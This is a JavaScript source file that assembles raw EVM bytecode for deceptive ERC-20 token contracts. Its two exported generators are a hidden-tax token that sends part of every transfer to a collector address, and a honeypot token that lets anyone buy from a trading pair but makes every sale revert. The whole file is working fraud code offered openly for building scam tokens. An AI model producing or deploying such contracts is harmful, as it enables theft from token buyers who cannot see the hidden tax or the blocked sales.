// Tokens that are not what they seem, written by hand: code that is put in an ERC-20's place, keeps
// its storage, and leaves to the code of another ERC-20 what it does not do itself.
const kTransfer = 'a9059cbb'; // transfer(address,uint256)
const kTransferFrom = '23b872dd'; // transferFrom(address,address,uint256)

const pushAddress = (address) => `73${address.slice(2).toLowerCase()}`;
const pushTwoBytes = (number) => `61${number.toString(16).padStart(4, '0')}`;

/** Joins pieces of code: {label} is a jump's target, {to} pushes the place of one. */
function assemble(pieces) {
    const places = {};
    let size = 0;
    for (const piece of pieces) {
        if (piece.label) places[piece.label] = size;
        size += typeof piece === 'string' ? piece.length / 2 : piece.to ? 3 : 1;
    }
    const kJumpDestination = '5b';
    const written = pieces.map((piece) =>
        typeof piece === 'string' ? piece : piece.to ? pushTwoBytes(places[piece.to]) : kJumpDestination);
    return `0x${written.join('')}`;
}

const jumpIf = (label) => [{ to: label }, '57'];
const kInput = '366000600037'; // CALLDATACOPY: all of it to memory, from 0
const kSelector = '60003560e01c'; // onto the stack
const ifSelector = (selector, label) => [`8063${selector}14`, ...jumpIf(label)];
/** DELEGATECALL with what is in memory; its success onto the stack. */
const delegate = (implementation) => `60006000366000${pushAddress(implementation)}5af4`;
const kOutput = '3d600060003e'; // RETURNDATACOPY: all of it to memory, from 0
const kRevert = '3d6000fd';
const endAlike = (label) => [...jumpIf(label), kOutput, kRevert, { label }, kOutput, '3d6000f3'];

/** Of each transfer one part of `parts` goes to the collector instead. */
export function taxedToken({ implementation, collector, parts }) {
    // The stack under the words below: the place of the transfer's first argument, less 4; amount; tax.
    return assemble([
        kInput, kSelector, ...ifSelector(kTransfer, 'transfer'), ...ifSelector(kTransferFrom, 'from'),
        delegate(implementation), ...endAlike('plain'),
        { label: 'transfer' }, '6000', { to: 'taxed' }, '56',
        { label: 'from' }, '6020',
        { label: 'taxed' },
        '8060240135', // its amount
        `80${pushTwoBytes(parts)}9004`, // the tax
        '808360240152', // in the amount's place
        `${pushAddress(collector)}8360040152`, // in the receiver's
        delegate(implementation), ...jumpIf('rest'), kOutput, kRevert,
        { label: 'rest' },
        '9003', // what is left
        '8160240152', // in the amount's place
        '8060040180359052', // the receiver, in his own place again
        delegate(implementation), ...endAlike('done'),
    ]);
}

/** Everybody can buy it from the pair, and nobody sell it. */
export function honeypot({ implementation, pair }) {
    return assemble([
        kInput, kSelector, ...ifSelector(kTransferFrom, 'refuse'), ...ifSelector(kTransfer, 'transfer'),
        { label: 'pass' }, delegate(implementation), ...endAlike('done'),
        { label: 'transfer' }, `33${pushAddress(pair)}14`, ...jumpIf('pass'),
        { label: 'refuse' }, '60006000fd',
    ]);
}
